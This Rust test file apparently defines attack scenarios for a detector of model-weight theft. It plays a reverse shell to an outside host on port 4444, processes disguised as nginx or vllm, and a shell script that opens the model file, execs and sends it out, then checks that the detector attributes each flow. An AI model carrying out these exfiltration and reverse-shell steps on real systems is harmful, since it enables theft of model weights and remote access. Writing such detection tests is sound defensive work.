//! Processes that are not what they are called, and those that should be trusted.

use super::{Outcome, outside, theft};
use std::time::SystemTime;
use tests::board::{Expected, MODEL, Played, Scenario, Stage};

pub const SCENARIOS: &[Scenario] = &[
    Scenario::new("reverse_shell", "a shell on a socket, cat", reverse_shell),
    Scenario::new("double_fork_false_name", "daemon called nginx", |stage| {
        theft(stage, &["none", "--disguise", "nginx"])
    }),
    Scenario::new("true_loader_itself", "the declared loader reads and sends", loader),
    Scenario::new("named_like_a_loader", "a thief called vllm", named),
    Scenario::new("sender_execs_after_reading", "reads to memory file, exec, sends", exec),
];

fn reverse_shell(stage: &mut Stage) -> Outcome {
    // The shell's standard input and output are the connection; what it is told becomes the reader and the sender.
    let listener = stage.listen(Stage::OUTSIDE.into(), 4444)?;
    let to = format!("{}:4444", Stage::OUTSIDE);
    let shell = stage.begin(&["reverse-shell", "--to", &to])?;
    let pid = shell.pid();
    let began = SystemTime::now();
    let came = listener.command(format!("exec cat {MODEL}\n").as_bytes())?;
    shell.output()?;
    let expected = Expected {
        inodes: vec![stage.inode.clone()],
        readers: vec![pid],
        senders: vec![pid],
        destinations: vec![to.parse()?],
        bytes: vec![("weir.exfil.bytes", came.0), ("weir.flow.bytes", came.0)],
        began,
        containers: vec![stage.container.id.clone()],
        verbatim: true,
    };
    stage.check(&expected, &[], came)?;
    Ok(Played::Attack(expected))
}

/// One process, the declared loader, loads and sends.
fn loader(stage: &mut Stage) -> Outcome {
    let program = stage.actor_called("/opt/venv/bin/python3.11")?;
    as_program(stage, program)
}

/// The loader loads, as it does every day; later another process of the same name takes the weights.
fn named(stage: &mut Stage) -> Outcome {
    let program = stage.actor_called("/opt/bin/vllm")?;
    stage.act_as(program, &["read", MODEL])?;
    as_program(stage, program)
}

fn as_program(stage: &mut Stage, program: &str) -> Outcome {
    let world = stage.world(&[])?;
    let lines = stage.act_as(program, &["theft", "none", "--read", MODEL, "--to", &outside()])?;
    Ok(Played::Attack(stage.truth_of(&lines, None, world, true)?))
}

fn exec(stage: &mut Stage) -> Outcome {
    let world = stage.world(&[])?;
    // The shell opens the file and becomes the sender, which never opens anything.
    let script = format!(
        "exec 3< {MODEL}; exec $A become --role reader --file {MODEL} -- $A theft stdin --to {} <&3",
        outside()
    );
    let lines = stage.script(&script)?;
    Ok(Played::Attack(stage.truth_of(&lines, None, world, true)?))
}
